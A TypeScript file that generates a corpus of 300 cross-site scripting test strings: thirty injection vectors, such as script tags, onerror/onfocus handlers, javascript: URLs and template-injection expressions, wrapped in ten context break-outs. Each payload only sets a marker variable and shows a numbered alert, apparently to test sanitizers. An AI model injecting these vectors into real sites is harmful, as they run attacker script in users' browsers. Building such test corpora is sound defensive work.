/**
 * Words that would run something if they were put into a page as they are: thirty vectors in ten contexts. Each tells on itself in two
 * ways when it runs, by `window.ran` and by a dialog, with its own number.
 */
export const xssCorpus: readonly string[] = contexts().flatMap((context, c) =>
  vectors().map((vector, v) => context(vector, `(window.ran=${c * 30 + v},alert(${c * 30 + v}))`)),
)

type Vector = (code: string) => string

function vectors(): Vector[] {
  return [
    (code) => `<script>${code}</script>`,
    (code) => `<ScRiPt >${code}</sCrIpT >`,
    (code) => `<img src=x onerror=${code}>`,
    (code) => `<img/src=x/onerror=${code}//`,
    (code) => `<svg onload=${code}>`,
    (code) => `<svg><script>${code}</script></svg>`,
    (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
    (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
    (code) => `<iframe src=javascript:${code}>`,
    (code) => `<a href=javascript:${code} autofocus onfocus=${code}>read</a>`,
    (code) => `<details open ontoggle=${code}>`,
    (code) => `<input autofocus onfocus=${code}>`,
    (code) => `<select autofocus onfocus=${code}>`,
    (code) => `<textarea autofocus onfocus=${code}>`,
    (code) => `<video><source onerror=${code}></video>`,
    (code) => `<audio src=x onerror=${code}>`,
    (code) => `<object data=javascript:${code}>`,
    (code) => `<embed src="data:text/html,<script>${code}</script>">`,
    (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}></style>`,
    (code) => `<form><button formaction=javascript:${code} autofocus onfocus=${code}>go</button></form>`,
    (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    (code) => `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${code}>`,
    (code) => `<base href=javascript:${code}//>`,
    (code) => `<body onpageshow=${code}>`,
    (code) => `{{range.constructor("${code}")()}}`,
    (code) => `{% set x = [].constructor.constructor("${code}")() %}{{ x }}`,
    (code) => `\${${code}}`,
    (code) => `javascript:${code}`,
    (code) => `&lt;img src=x onerror=${code}&gt;`,
    (code) => `[read](javascript:${code}) ![](x" onerror="${code})`,
  ]
}

/** Where the words stand when they are put in: what they must first break out of. */
function contexts(): ((vector: Vector, code: string) => string)[] {
  return [
    (vector, code) => vector(code),
    (vector, code) => `">${vector(code)}`,
    (vector, code) => `'>${vector(code)}`,
    (vector, code) => `</textarea></title></style>${vector(code)}`,
    (vector, code) => `--></script>${vector(code)}<!--`,
    (vector, code) => `]]></option></select>${vector(code)}`,
    (vector, code) => `" autofocus onfocus="${code}" x="${vector(code)}`,
    (vector, code) => `' autofocus onfocus='${code}' x='${vector(code)}`,
    (vector, code) => `\\"};${code};//</script>${vector(code)}`,
    (vector, code) => `</noscript><noscript><p title="</noscript>${vector(code)}">`,
  ]
}
